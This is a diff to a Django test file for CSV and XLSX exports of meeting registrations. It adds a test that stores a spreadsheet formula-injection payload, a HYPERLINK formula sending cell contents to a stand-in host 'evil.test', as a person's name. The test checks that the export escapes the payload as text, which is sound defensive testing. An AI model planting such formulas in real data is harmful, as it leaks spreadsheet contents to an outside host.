@@ -100,7 +100,7 @@ def test_exports(client, training, sekdes, caruy_official, camat):
     services.register(training, caruy_official)
     client.login(email=camat.email, password=PASSWORD)
     response = client.get(reverse("meetings:registrations_export", args=[training.pk, "csv"]))
-    rows = list(csv.reader(io.StringIO(response.content.decode())))
+    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
     assert rows[0][:4] == ["Nama", "Jabatan", "Desa", "Kecamatan"]
     assert {r[2] for r in rows[1:]} == {"Serang", "Caruy"}
     assert rows[1][3] == "Cipari"
@@ -108,6 +108,20 @@ def test_exports(client, training, sekdes, caruy_official, camat):
     sheet = load_workbook(io.BytesIO(response.content)).active
     assert sheet.max_row == 3
     assert sheet["B2"].value == "Sekretaris Desa"
+
+
+def test_exports_write_a_formula_typed_as_a_name_as_text(client, training, sekdes, camat):
+    hostile = '=HYPERLINK("http://evil.test/?"&A1,"klik")'
+    sekdes.full_name = hostile
+    sekdes.save()
+    services.register(training, sekdes)
+    client.login(email=camat.email, password=PASSWORD)
+    response = client.get(reverse("meetings:registrations_export", args=[training.pk, "csv"]))
+    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
+    assert rows[1][0] == "'" + hostile
+    response = client.get(reverse("meetings:registrations_export", args=[training.pk, "xlsx"]))
+    cell = load_workbook(io.BytesIO(response.content)).active["A2"]
+    assert cell.data_type == "s" and cell.value == "'" + hostile
 
 
 def test_registrations_page_query_count(client, training, camat, serang_village, django_assert_max_num_queries):
